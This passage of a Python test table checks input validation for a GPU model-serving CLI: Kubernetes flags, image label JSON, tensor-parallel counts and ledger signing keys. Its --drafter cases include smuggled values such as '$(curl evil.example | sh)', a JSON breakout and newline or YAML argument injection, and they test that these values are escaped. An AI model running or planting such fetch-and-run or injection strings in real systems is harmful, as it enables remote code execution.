        "boot-a-day": ({"io.builder.boot-seconds": "86400"}, "io.builder.boot-seconds"),
        "boot-word": ({"io.builder.boot-seconds": "fast"}, "io.builder.boot-seconds"),
        "boot-long": ({"io.builder.boot-seconds": "9" * ARG}, "io.builder.boot-seconds"),
        "warm-boot-nan": ({"io.builder.warm": "1", "io.builder.warm.warm-boot-s": "nan"}, "warm-boot-s"),
        "warm-boot-negative": ({"io.builder.warm": "1", "io.builder.warm.warm-boot-s": "-1"}, "warm-boot-s"),
    }
    for name, (over, says) in labels.items():
        add(Case(f"w6-kube-label-{name}", "serve-kube-image", KUBE, files={"i.json": image_json(**over)}, expect=(says,)))
    # the node affinity reads the image's device code as doctor --host does: the audited SASS / PTX labels, else
    # io.builder.archs; a label that does not read is refused naming it, an image naming none cannot be placed by it
    no_sass = {"io.builder.package.vllm.sass": None, "io.builder.package.flash-attn.sass": None}
    add(Case("w6-kube-label-archs-forged", "serve-kube-image", [*KUBE, "--gpu-family", "hopper"],
             files={"i.json": image_json(**{"io.builder.archs": "abc"})}, expect=("label io.builder.archs", "'abc'")))
    add(Case("w6-kube-label-archs-missing", "serve-kube-image", [*KUBE, "--gpu-family", "ampere"],
             files={"i.json": image_json(**{"io.builder.archs": None, **no_sass})},
             expect=("no io.builder.archs label", "no GPU builder knows runs all of the image's device code")))
    add(Case("w6-kube-label-archs-volta-only", "serve-kube-image", [*KUBE, "--gpu-family", "hopper"],
             files={"i.json": image_json(**{"io.builder.archs": "70", **no_sass})},
             expect=("--gpu-family hopper", "volta 7.0, 7.2; turing 7.5 only")))
    shapes = {
        "labels-list": (json.dumps([{"RepoDigests": [DIGEST_REF], "Config": {"Labels": [1]}}]), "Labels"),
        "label-int": (json.dumps([{"RepoDigests": [DIGEST_REF], "Config": {"Labels": {**LABELS, "io.builder.cuda": 13}}}]),
                      "Labels"),
        "labels-null": (json.dumps([{"RepoDigests": [DIGEST_REF], "Config": {"Labels": None}}]), "not an image builder made"),
        "config-list": (json.dumps([{"RepoDigests": [DIGEST_REF], "Config": []}]), "expected a table"),
        "no-config": (json.dumps([{"RepoDigests": [DIGEST_REF]}]), "not an image builder made"),
        "two-images": (json.dumps([{"Config": {}}, {"Config": {}}]), "2 images"),
        "no-image": ("[]", "0 images"),
        "number": ("5", "JSON object"),
        "not-json": ("{", "not JSON"),
        "nested": ("[" * 100_000 + "]" * 100_000, "nested"),
        "empty": ("", "not JSON"),
    }
    for name, (text, says) in shapes.items():
        add(Case(f"w6-kube-image-json-{name}", "serve-kube-image", KUBE, files={"i.json": text}, expect=(says,)))
    add(Case("w6-kube-image-json-fifo", "serve-kube-image", KUBE, files={"i.json": fifo}, expect=("i.json",)))
    add(Case("w6-kube-image-json-directory", "serve-kube-image", KUBE, files={"i.json": directory}, expect=("i.json",)))
    add(Case("w6-kube-image-json-missing", "serve-kube-image", KUBE, expect=("i.json", "no such file")))
    add(Case("w6-kube-image-json-dangling", "serve-kube-image", KUBE, files={"i.json": dangling}, expect=("i.json",)))
    # an IMAGE given by reference whose digest is malformed: refused before any daemon or registry is asked
    for name, value in {"upper-hex": f"r.example/x@sha256:{'A' * 64}", "short-hex": f"r.example/x@sha256:{'a' * 63}",
                        "long-hex": f"r.example/x@sha256:{'a' * 65}", "not-hex": f"r.example/x@sha256:{'z' * 64}",
                        "empty-hex": "r.example/x@sha256:", "double-at": f"r.example/x@@sha256:{H}",
                        "space": f"r.example/x@sha256: {H}", "newline": f"r.example/x@sha256:{H}\n",
                        "no-name": f"@sha256:{H}", "colon-only": "r.example/x@:"}.items():
        add(Case(f"w6-kube-image-ref-{name}", "serve-kube-image", ["serve", value, *KUBE[2:]], expect=("IMAGE",)))
    return out


def _kube_flag_cases() -> list[Case]:
    out: list[Case] = []
    add = out.append
    image = {"i.json": image_json()}

    def flag(name: str, flag_: str, values: dict, says: str, base=KUBE) -> None:
        for vname, v in values.items():
            add(Case(f"w6-kube-{name}-{vname}", "serve-kube", [*base, flag_, v], files=image, expect=(says,)))

    flag("claim", "--compile-cache-claim", {
        "upper": "Cache", "slash": "a/b", "dotdot": "..", "dot": ".", "space": "a b", "254": "c" * 254,
        "leading-dash": "-cache", "trailing-dash": "cache-", "underscore": "jit_cache", "empty": "", "newline": "c\nx",
        "colon": "pvc:cache", "long": "c" * ARG, "unicode": "cäche", "trailing-dot": "cache."}, "--compile-cache-claim")
    flag("namespace", "--namespace", {
        "upper": "Default", "underscore": "a_b", "leading-dash": "-a", "trailing-dash": "a-", "empty": "", "64": "n" * 64,
        "dot": "a.b", "space": "kube system", "newline": "ns\n", "slash": "a/b", "long": "n" * ARG}, "--namespace")
    flag("name", "--name", {
        "upper": "Vllm", "underscore": "a_b", "empty": "", "64": "n" * 64, "leading-dash": "-a", "dot": "a.b",
        "trailing-dash": "vllm-", "long": "v" * ARG}, "--name")
    flag("replicas", "--replicas", {"zero": "0", "negative": "-1", "1001": "1001", "word": "two", "float": "1.5",
                                    "empty": "", "nan": "nan", "huge": "1e9"}, "--replicas")
    flag("cpu", "--cpu", {"word": "lots", "negative": "-2", "dots": "1..5", "space": "2 cores", "empty": "",
                          "bytes": "16Gb", "fraction": "1/2", "hex": "0x10", "newline": "2\n"}, "--cpu")
    flag("memory", "--memory", {"word": "lots", "gb": "256GB", "negative": "-1Gi", "empty": "", "two-dots": "1.5.5Gi",
                                "unit-only": "Gi", "space": "256 Gi", "lower": "256gi", "long": "9" * ARG}, "--memory")
    flag("gpu-family", "--gpu-family", {"unknown": "nope", "empty": "", "capital": "Hopper", "sm": "sm90",
                                        "long": "h" * ARG, "newline": "hopper\n"}, "--gpu-family")
    for family in ("volta", "turing", "blackwell"):  # SASS sm_80, sm_90: 8.0-8.9 (ampere, ada-lovelace) and 9.0
        add(Case(f"w6-kube-gpu-family-not-in-the-image-{family}", "serve-kube", [*KUBE, "--gpu-family", family],
                 files=image, expect=(f"--gpu-family {family}", "ada-lovelace 8.9; hopper 9.0 only")))
    flag("shm", "--shm-size", {"word": "lots", "zero": "0Gi", "gb": "16GB", "g": "16G", "negative": "-1Gi", "empty": "",
                               "lower": "16gi", "float": "1.5Gi", "bytes": "1024"}, "--shm-size")
    models = {
        "pvc-empty": ("pvc:", "claim name"), "pvc-upper": ("pvc:Models", "claim name"),
        "pvc-dotdot": ("pvc:x/../y", "not a relative path"), "pvc-only-dotdot": ("pvc:x/..", "not a relative path"),
        "pvc-space": ("pvc:x/a b", "not a relative path"), "pvc-leading-dash": ("pvc:-x", "claim name"),
        "pvc-underscore": ("pvc:my_models", "claim name"), "pvc-254": ("pvc:" + "m" * 254, "claim name"),
        "hostpath-relative": ("hostpath:models/q", "hostpath:/DIR"), "hostpath-empty": ("hostpath:", "hostpath:/DIR"),
        "hostpath-root": ("hostpath:/", "hostpath:/DIR"), "hostpath-dotdot": ("hostpath:/..", "hostpath:/DIR"),
        "hostpath-dotdot-inside": ("hostpath:/srv/../etc", "hostpath:/DIR"),
        "hostpath-dot": ("hostpath:/srv/./m", "hostpath:/DIR"), "hostpath-space": ("hostpath:/srv/a b", "hostpath:/DIR"),
        "volume": ("volume:models", "docker named volume"), "volume-sub": ("volume:models/q", "docker named volume"),
        "relative-dir": ("models/q", "on Kubernetes"), "empty": ("", "on Kubernetes"),
    }
    for name, (v, says) in models.items():
        add(Case(f"w6-kube-model-{name}", "serve-kube", given(KUBE, "--model", v), files=image, expect=("--model", says)))
    add(Case("w6-kube-output-under-a-file", "serve-kube", [*KUBE, "-o", "{tmp}/afile/k.yaml"],
             files={**image, "afile": "x"}, expect=("-o", "afile")))
    add(Case("w6-kube-output-is-a-directory", "serve-kube", [*KUBE, "-o", "{tmp}/adir"], files={**image, "adir": directory},
             expect=("--output", "directory")))
    add(Case("w6-kube-output-fifo", "serve-kube", [*KUBE, "-o", "{tmp}/f"], files={**image, "f": fifo},
             expect=("--output", "FIFO")))
    add(Case("w6-kube-output-dev-full", "serve-kube", [*KUBE, "-o", "/dev/full"], files=image,
             expect=("--output", "device")))
    add(Case("w6-kube-output-loop", "serve-kube", [*KUBE, "-o", "{tmp}/l"], files={**image, "l": loop},
             expect=("--output", "loop")))
    add(Case("w6-kube-with-run", "serve-kube", [*KUBE, "--run"], files=image, expect=("--run", "--kubernetes")))
    add(Case("w6-kube-strategy-unknown", "serve-kube", given(KUBE, "--strategy", "nope"), files=image,
             expect=("--strategy",)))
    add(Case("w6-kube-strategy-empty", "serve-kube", given(KUBE, "--strategy", ""), files=image, expect=("--strategy",)))
    add(Case("w6-kube-engine-args-unclosed", "serve-kube", [*KUBE, "--engine-args", "'--x"], files=image,
             expect=("--engine-args",)))
    # a Kubernetes option without --kubernetes: refused, not left out of the docker line without a word
    for opt, value in (("--namespace", "llm"), ("--replicas", "2"), ("--cpu", "8"), ("--memory", "64Gi"),
                       ("--compile-cache-claim", "jit"), ("--gpu-family", "hopper"), ("-o", "{tmp}/k.yaml"),
                       ("--anti-affinity", None), ("--pod-monitor", None)):
        extra = [opt] if value is None else [opt, value]
        add(Case(f"w6-serve-kube-option-without-kubernetes{opt}", "serve-kube", [*SERVE, *extra],
                 expect=("a Kubernetes option",)))
    # --drafter is a model name: whatever it looks like, it is served as written (the launch line's JSON escapes it)
    drafters = {
        "json-object": '{"method": "evil"}',
        "json-breakout": 'x","method":"evil',
        "newline": "org/drafter\n--trust-remote-code",
        "shell": "$(curl evil.example | sh)",
        "quotes": "'\"`",
        "backslash": "org\\drafter\\",
        "yaml": "x\nkind: Secret\nmetadata: {}",
        "unicode": "org/drafter-ü",
    }
    for name, v in drafters.items():
        add(Case(f"w6-kube-drafter-{name}", "fine", [*given(KUBE, "--strategy", "DFlash2"), "--drafter", v], code=0,
                 files=image, expect=("kind: Deployment", "--speculative-config", json.dumps(v)[1:-1][:12])))
    return out


# -- --tp on serve, smoke, bench and warm ------------------------------------------------------------------------
TP_BAD = {"zero": "0", "negative": "-1", "65": "65", "word": "two", "nan": "nan", "empty": "", "float": "1.5",
          "two-point-zero": "2.0", "plus": "+", "huge": "9" * 40}


def _tp_cases() -> list[Case]:
    out: list[Case] = []
    add = out.append
    smoke = ["smoke", CELL, "--matrix", "{fx}/matrix.toml", "--out-dir", "{tmp}/r"]
    verbs = {"serve": SERVE, "kube": KUBE, "smoke": smoke, "bench": BENCH, "warm": WARM}
    for verb, base in verbs.items():
        for name, v in TP_BAD.items():
            if verb in ("kube", "warm") and name in ("plus", "huge", "two-point-zero"):
                continue
            add(Case(f"w6-tp-{verb}-{name}", "tp", [*base, "--tp", v], files={"i.json": image_json()} if verb == "kube" else {},
                     expect=("--tp",)))
    for verb, base in (("serve", SERVE), ("smoke", smoke), ("bench", BENCH)):
        add(Case(f"w6-tp-{verb}-3-on-2-gpus", "tp", [*base, "--tp", "3", "--gpus", "0,1"], expect=("--tp 3", "names 2 GPUs")))
        add(Case(f"w6-tp-{verb}-2-on-1-gpu", "tp", [*base, "--tp", "2", "--gpus", "0"], expect=("--tp 2", "names 1 GPU")))
        add(Case(f"w6-tp-{verb}-2-on-none", "tp", [*base, "--tp", "2", "--gpus", "none"], expect=("--tp 2", "none")))
        add(Case(f"w6-tp-{verb}-1-on-2-gpus-repeated", "tp", [*base, "--tp", "2", "--gpus", "0,0"],
                 expect=("--tp 2", "names 1 GPU")))
    # an engine whose data names no tensor-parallel flag (the cuda-ext fixture, the stand-in TEST DOUBLE)
    add(Case("w6-tp-smoke-engine-without-the-flag", "tp", [*smoke, "--tp", "2"], expect=("--tp 2", "tensor-parallel flag")))
    add(Case("w6-tp-smoke-engine-without-the-flag-ids", "tp", [*smoke, "--tp", "2", "--gpus", "0,1"],
             expect=("--tp 2", "tensor-parallel flag")))
    add(Case("w6-tp-bench-engine-without-the-flag", "tp", [*BENCH, "--tp", "4"], expect=("--tp 4", "tensor-parallel flag")))
    add(Case("w6-tp-smoke-process-engine-without-the-flag", "tp",
             ["smoke", SCELL, "--matrix", SM, "--launcher", "process", "--out-dir", "{tmp}/r", "--tp", "2", "--gpus", "0,1"],
             expect=("--tp 2", "stand-in-engine")))
    add(Case("w6-tp-kube-engine-without-the-flag", "tp", [*KUBE, "--tp", "2", "--matrix", SM],
             files={"i.json": json.dumps([{"RepoDigests": [f"r.example/stand-in@sha256:{H}"],
                                           "Config": {"Labels": STAND_IN_LABELS}}])},
             expect=("--tp 2", "stand-in-engine")))
    add(Case("w6-tp-warm-2", "tp", [*given(WARM, "--gpus", "0,1"), "--tp", "2"], expect=("--tp 2", "one GPU")))
    add(Case("w6-tp-warm-8-image", "tp", [*WARM_IMAGE, "--tp", "8"], expect=("--tp 8", "one GPU")))
    return out


# -- signing keys: the matrix's ledger_public_key and publish's BUILDER_LEDGER_SIGNING_KEY --------------------------
@lru_cache(maxsize=None)
def _keys() -> dict:
    """PEM (and DER) texts of fresh keys, made once per run."""
    from cryptography.hazmat.primitives import serialization as ser
    from cryptography.hazmat.primitives.asymmetric import ec, ed448, ed25519, rsa, x25519

    made = {"ed25519": ed25519.Ed25519PrivateKey.generate(), "p256": ec.generate_private_key(ec.SECP256R1()),
            "p384": ec.generate_private_key(ec.SECP384R1()), "k256": ec.generate_private_key(ec.SECP256K1()),
            "rsa1024": rsa.generate_private_key(65537, 1024), "ed448": ed448.Ed448PrivateKey.generate(),
            "x25519": x25519.X25519PrivateKey.generate()}
    out = {}
    for name, key in made.items():
        out[f"{name}.pub"] = key.public_key().public_bytes(ser.Encoding.PEM, ser.PublicFormat.SubjectPublicKeyInfo).decode()
        out[f"{name}.der"] = key.public_key().public_bytes(ser.Encoding.DER, ser.PublicFormat.SubjectPublicKeyInfo)
        out[f"{name}.key"] = key.private_bytes(ser.Encoding.PEM, ser.PrivateFormat.PKCS8, ser.NoEncryption()).decode()
    key = made["ed25519"]
    out["ed25519.openssh"] = key.private_bytes(ser.Encoding.PEM, ser.PrivateFormat.OpenSSH, ser.NoEncryption()).decode()
    out["ed25519.encrypted"] = key.private_bytes(ser.Encoding.PEM, ser.PrivateFormat.PKCS8,
                                                 ser.BestAvailableEncryption(b"pw")).decode()
    out["p256.sec1"] = made["p256"].private_bytes(ser.Encoding.PEM, ser.PrivateFormat.TraditionalOpenSSL,
                                                  ser.NoEncryption()).decode()
    out["rsa1024.pkcs1"] = made["rsa1024"].public_key().public_bytes(ser.Encoding.PEM, ser.PublicFormat.PKCS1).decode()
    return out


def key_text(name: str) -> Callable[[Path], None]:
    """A key file of `_keys()[name]` (made when the case runs, not when the table is read)."""

    def make(path: Path) -> None:
        text = _keys()[name]
        path.write_bytes(text) if isinstance(text, bytes) else path.write_text(text)

    return make


def written(text: str | bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(text) if isinstance(text, bytes) else path.write_text(text)

    return make


def unreadable_key(path: Path) -> None:
    key_text("ed25519.pub")(path)
    path.chmod(0)


KEY_FILES = {  # name → (what the matrix names, what to make there, what the refusal says)
    "missing": ("ledger.pub", None, "No such file"),
    "not-pem": ("ledger.pub", written("hello\n"), "not a PEM public key"),
    "empty-file": ("ledger.pub", written(""), "not a PEM public key"),
    "certificate": ("ledger.pub", written("-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----\n"),
                    "not a PEM public key"),
    "private-pkcs8": ("ledger.pub", key_text("ed25519.key"), "PRIVATE key"),
    "private-sec1": ("ledger.pub", key_text("p256.sec1"), "PRIVATE key"),
    "private-openssh": ("ledger.pub", key_text("ed25519.openssh"), "PRIVATE key"),
    "private-encrypted": ("ledger.pub", key_text("ed25519.encrypted"), "PRIVATE key"),
    "public-then-private": ("ledger.pub", lambda p: p.write_text(_keys()["p256.pub"] + _keys()["p256.key"]), "PRIVATE key"),
    "rsa-1024": ("ledger.pub", key_text("rsa1024.pub"), "RSA-1024"),
    "rsa-pkcs1": ("ledger.pub", key_text("rsa1024.pkcs1"), "RSA-1024"),
    "ecdsa-p384": ("ledger.pub", key_text("p384.pub"), "secp384r1"),
    "ecdsa-k256": ("ledger.pub", key_text("k256.pub"), "secp256k1"),
    "ed448": ("ledger.pub", key_text("ed448.pub"), "type Ed448"),
    "x25519": ("ledger.pub", key_text("x25519.pub"), "type X25519"),
    "der": ("ledger.pub", key_text("ed25519.der"), "not a PEM public key"),
    "truncated": ("ledger.pub", lambda p: p.write_text(_keys()["p256.pub"].rsplit("\n", 2)[0]), "not a PEM public key"),
    "edited": ("ledger.pub", lambda p: p.write_text(_keys()["p256.pub"].replace("M", "N", 3)), "not a PEM public key"),
    "over-64k": ("ledger.pub", written("#" * (64 << 10) + "\n"), "not a PEM public key"),
    "valid-then-64k": ("ledger.pub", lambda p: p.write_text(_keys()["ed25519.pub"] + "#" * (64 << 10)),
                       "not a PEM public key"),
    "huge": ("ledger.pub", lambda p: p.write_bytes(b"\0" * (20 << 20)), "not a PEM public key"),
    "not-utf8": ("ledger.pub", written(b"\xff\xfe-----BEGIN PUBLIC KEY-----\n"), "not a PEM public key"),
    "symlink-loop": ("ledger.pub", loop, "ledger.pub"),
    "dangling-symlink": ("ledger.pub", dangling, "No such file"),
    "socket": ("ledger.pub", socket_at, "not a regular file"),
    "dev-null": ("/dev/null", None, "not a regular file"),
    "dev-urandom": ("/dev/urandom", None, "not a regular file"),
    "proc-mem": ("/proc/self/mem", None, "Input/output error"),
    "under-a-file": ("ledger.pub/key", written("x"), "Not a directory"),
}


def _named_key(path: str) -> Callable[[str], str]:
    return add_default(f"ledger_public_key = {json.dumps(path)}")


def _signing_cases() -> list[Case]:
    out: list[Case] = []
    add = out.append
    dead = [*PUBLISH, "--registry", "127.0.0.1:9/x", "--retries", "0"]
    verbs = {"build": DRY, "publish": dead, "repro": REPRO}
    for name, (named, make, says) in KEY_FILES.items():
        made_at = "fx/ledger.pub" if not named.startswith("/") else None
        files = {made_at: make} if make is not None and made_at else {}
        for verb, argv in verbs.items():
            if verb == "repro" and name not in ("not-pem", "private-pkcs8", "rsa-1024", "ecdsa-p384", "over-64k", "der"):
                continue
            add(Case(f"w6-ledger-key-{name}-{verb}", "signing", argv, matrix=_named_key(named), files=files,
                     expect=("ledger_public_key", says)))
    for name, value, says in (("int", "5", "a path on one line"), ("list", '["a.pub"]', "a path on one line"),
                              ("newline", '"a\\nb.pub"', "newline"), ("nul", '"a\\u0000b"', "NUL"),
                              ("table", "{ path = \"a.pub\" }", "a path on one line")):
        add(Case(f"w6-ledger-key-value-{name}", "signing", DRY, matrix=add_default(f"ledger_public_key = {value}"),
                 expect=("ledger_public_key", says)))
    add(Case("w6-ledger-key-unreadable-build", "signing", DRY, matrix=_named_key("ledger.pub"),
             files={"fx/ledger.pub": unreadable_key}, as_nobody=True, expect=("ledger_public_key", "Permission denied")))
    # DOCKER_CONFIG: a directory of the case's own (CI points it into root's private temp dir, which uid 65534 cannot
    # read: publish would stop there, at the docker credentials, before it reads the key)
    add(Case("w6-ledger-key-unreadable-publish", "signing", dead, matrix=_named_key("ledger.pub"),
             files={"fx/ledger.pub": unreadable_key, "dc": directory}, env={"DOCKER_CONFIG": "dc"}, as_nobody=True,
             expect=("ledger_public_key", "Permission denied")))
    # BUILDER_LEDGER_SIGNING_KEY, read by publish only; its value is never quoted
    signer = {
        "not-pem": ("not a key", "not an unencrypted PEM private key"),
        "secret-in-armour": (f"-----BEGIN PRIVATE KEY-----\n{SECRET}\n-----END PRIVATE KEY-----\n",
                             "not an unencrypted PEM private key"),
        "secret-alone": (SECRET, "not an unencrypted PEM private key"),
        "public-key": (lambda: _keys()["ed25519.pub"], "not an unencrypted PEM private key"),
        "encrypted": (lambda: _keys()["ed25519.encrypted"], "not an unencrypted PEM private key"),
        "openssh": (lambda: _keys()["ed25519.openssh"], "not an unencrypted PEM private key"),
        "rsa-1024": (lambda: _keys()["rsa1024.key"], "RSA-1024"),
        "ecdsa-p384": (lambda: _keys()["p384.key"], "secp384r1"),
        "ecdsa-k256": (lambda: _keys()["k256.key"], "secp256k1"),
        "ed448": (lambda: _keys()["ed448.key"], "type Ed448"),
        "truncated": (lambda: _keys()["p256.key"][:-40], "not an unencrypted PEM private key"),
        "der-as-text": ("MC4CAQAwBQYDK2VwBCIEI" + "A" * 40, "not an unencrypted PEM private key"),
        "long": ("k" * ARG, "not an unencrypted PEM private key"),
    }
    for name, (value, says) in signer.items():
        add(Case(f"w6-signing-key-{name}", "signing", dead, env={"BUILDER_LEDGER_SIGNING_KEY": _env_value(value)},
                 expect=("BUILDER_LEDGER_SIGNING_KEY", says)))
    add(Case("w6-signing-key-not-the-pair", "signing", dead, matrix=_named_key("ledger.pub"),
             files={"fx/ledger.pub": key_text("p256.pub")},
             env={"BUILDER_LEDGER_SIGNING_KEY": _env_value(lambda: _keys()["ed25519.key"])},
             expect=("BUILDER_LEDGER_SIGNING_KEY", "is not the pair")))
    add(Case("w6-signing-key-unset-where-the-matrix-names-one", "signing", dead, matrix=_named_key("ledger.pub"),
             files={"fx/ledger.pub": key_text("p256.pub")}, env={"BUILDER_LEDGER_SIGNING_KEY": ""},
             expect=("must be signed", "BUILDER_LEDGER_SIGNING_KEY")))
    add(Case("w6-signing-key-blank-where-the-matrix-names-one", "signing", dead, matrix=_named_key("ledger.pub"),
             files={"fx/ledger.pub": key_text("ed25519.pub")}, env={"BUILDER_LEDGER_SIGNING_KEY": " \n\t"},
             expect=("must be signed",)))
    return out


def _env_value(value) -> str:
    return value() if callable(value) else value


def _dropped_flag_cases() -> list[Case]:
    """A flag that would do nothing in its combination is refused, never dropped without a word: docker's --gpus and
    --bind given to serve --kubernetes, --images-json given to warm without --push."""
    image = {"i.json": image_json()}
    out = [Case(f"w6-kube-docker-flag-{flag.strip('-')}-{i}", "serve-kube", [*KUBE, flag, value], files=image,
                expect=(flag, "docker option"))
           for flag, values in (("--gpus", ("0,1", "all", "none")), ("--bind", ("127.0.0.1", "0.0.0.0")))
           for i, value in enumerate(values)]
    out.append(Case("w6-kube-docker-flags-both", "serve-kube", [*KUBE, "--gpus", "0", "--bind", "127.0.0.1"],
                    files=image, expect=("--gpus, --bind", "docker options")))
    out += [Case(f"w6-warm-images-json-without-push-{name}", "warm", [*argv, "--images-json", "{tmp}/images.json"],
                 expect=("--images-json", "without --push")) for name, argv in (("image", WARM_IMAGE),
                                                                               ("process", WARM))]
    return out


WARM_KEY = ["smoke", SCELL, "--matrix", SM, "--launcher", "process", "--gpus", "none", "--layers", "L3",
            "--cache-root", "{tmp}/root", "--expect-warm", "--report-dir", "{tmp}/r", "--warm-key", "{tmp}/k.json"]


def _warm_key_cases() -> list[Case]:
    """smoke --warm-key (issue 45): a capture's warm.json the boot is judged against, refused before the model is
    made or any engine starts: without --expect-warm or the process launcher, not a file, not JSON, no capture's."""
    out: list[Case] = []
    add = out.append
    add(Case("w7-warm-key-without-expect-warm", "smoke", [a for a in WARM_KEY if a != "--expect-warm"],
             expect=("--warm-key", "--expect-warm")))
    add(Case("w7-warm-key-on-docker", "smoke", ["smoke", IMAGE, "--warm-key", "{tmp}/k.json"],
             files={"k.json": GOOD_FACTS}, expect=("--warm-key", "--launcher process")))
    for name, text in {"not-json": "{", "a-list": "[]", "no-cache-root": '{"strategy": "MTP2"}',
                       "cache-root-a-number": '{"cache_root": 5}', "deep": "[" * 100000,
                       "a-set-of-bytes": b"\xff\xfe"}.items():
        add(Case(f"w7-warm-key-{name}", "smoke", WARM_KEY, files={"k.json": text}, expect=("--warm-key",)
                 if name in ("a-list", "no-cache-root", "cache-root-a-number") else ("k.json",)))
    add(Case("w7-warm-key-missing", "smoke", WARM_KEY, expect=("k.json", "no such")))
    add(Case("w7-warm-key-a-directory", "smoke", WARM_KEY, files={"k.json": directory}, expect=("--warm-key",)))
    add(Case("w7-warm-key-a-fifo", "smoke", WARM_KEY, files={"k.json": fifo}, expect=("--warm-key", "FIFO")))
    return out


CASES: list[Case] = [*_warm_cases(), *_from_dir_cases(), *_resume_cases(), *_push_cases(), *_kube_image_cases(),
                     *_kube_flag_cases(), *_tp_cases(), *_signing_cases(), *_dropped_flag_cases(), *_warm_key_cases()]
